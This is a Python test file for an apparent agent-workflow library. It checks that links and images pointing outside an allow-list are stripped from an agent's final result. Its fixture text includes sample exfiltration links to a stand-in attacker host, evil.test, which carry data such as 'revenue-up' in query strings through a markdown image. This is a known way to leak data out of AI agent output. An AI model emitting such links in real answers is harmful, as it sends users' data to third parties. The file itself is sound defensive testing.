"""Links in a final result cannot carry data out: neutralised outside the allow-list."""

from __future__ import annotations

from agentledger.agents.workflow import AgentSpec, Workflow
from agentledger.llm import ScriptedModel, reply, reply_json
from agentledger.security.links import neutralise_links
from agentledger.security.policy import SecurityPolicy
from agentledger.testing import run_goal

ANSWER = (
    "Summary in [the docs](https://docs.example.com/guide). "
    "![status](https://evil.test/p.png?d=revenue-up) "
    "More at https://evil.test/c?q=notes and https://blog.example.com/post."
)


def test_without_a_list_images_and_query_links_go_and_plain_links_stay() -> None:
    out, removed = neutralise_links({"text": ANSWER, "n": 1}, None)
    assert out == {
        "text": "Summary in [the docs](https://docs.example.com/guide). "
        "status [image removed: evil.test] "
        "More at [link removed: evil.test] and https://blog.example.com/post.",
        "n": 1,
    }
    assert removed == ["https://evil.test/p.png?d=revenue-up", "https://evil.test/c?q=notes"]


def test_with_a_list_every_other_domain_goes() -> None:
    out, _ = neutralise_links(
        ANSWER + ' <img src="https://docs.example.com/a.png?x=1">', ("docs.example.com",)
    )
    assert out == (
        "Summary in [the docs](https://docs.example.com/guide). "
        "status [image removed: evil.test] "
        "More at [link removed: evil.test] and [link removed: blog.example.com]. "
        '<img src="https://docs.example.com/a.png?x=1">'
    )


def test_clean_text_is_returned_as_it_is() -> None:
    value = {"text": "no links here"}
    out, removed = neutralise_links(value, None)
    assert out is value and removed == []


async def test_the_final_result_of_a_run_is_neutralised() -> None:
    wf = Workflow.build(
        name="links",
        orchestrator="planner",
        agents=[AgentSpec("planner", routes_to=("writer",)), AgentSpec("writer")],
        security=SecurityPolicy(link_domains=("docs.example.com",)),
    )
    model = ScriptedModel(
        {
            "planner": [reply_json({"subtasks": [{"id": "w", "agent": "writer"}]})],
            "writer": [reply(ANSWER)],
        }
    )
    run = await run_goal(wf, model, "write")
    (done,) = run.of_type("task_completed")
    assert isinstance(done.result, str)
    assert "evil.test/" not in done.result and "[image removed: evil.test]" in done.result
    assert "[the docs](https://docs.example.com/guide)" in done.result
